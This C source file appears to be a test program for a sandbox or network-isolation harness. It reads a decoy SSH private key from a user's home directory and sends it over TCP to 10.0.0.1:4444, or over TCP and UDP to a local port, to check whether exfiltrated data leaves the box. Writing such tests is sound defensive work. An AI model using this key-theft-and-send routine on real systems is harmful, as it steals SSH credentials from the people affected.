/* SPDX-License-Identifier: MIT */
/* exfil: reads the decoy ssh key and sends it over TCP to 10.0.0.1:4444
 * (the sink's): a decoy read that leaves the box as traffic, or tries
 * to.  With a PORT: to 127.0.0.1:PORT, over TCP and UDP (the host's
 * listener, when the box has the host's network). */
#include <arpa/inet.h>
#include <fcntl.h>
#include <netinet/in.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>

static void send_to(int type, const char *ip, int port, const char *b, size_t n)
{
	struct sockaddr_in a;
	int s = socket(AF_INET, type | SOCK_CLOEXEC, 0);
	memset(&a, 0, sizeof a);
	a.sin_family = AF_INET;
	a.sin_port = htons((unsigned short)port);
	inet_pton(AF_INET, ip, &a.sin_addr);
	if (connect(s, (struct sockaddr *)&a, sizeof a) == 0)
		(void)write(s, b, n);
	close(s);
}

int main(int argc, char **argv)
{
	char b[256];
	ssize_t n = 0;
	int fd = open("/home/dana/.ssh/id_rsa", O_RDONLY | O_CLOEXEC);
	if (fd >= 0) {
		n = read(fd, b, sizeof b);
		close(fd);
	}
	if (n <= 0)
		return 1;
	if (argc < 2) {
		send_to(SOCK_STREAM, "10.0.0.1", 4444, b, (size_t)n);
		return 0;
	}
	send_to(SOCK_STREAM, "127.0.0.1", atoi(argv[1]), b, (size_t)n);
	send_to(SOCK_DGRAM, "127.0.0.1", atoi(argv[1]), b, (size_t)n);
	return 0;
}
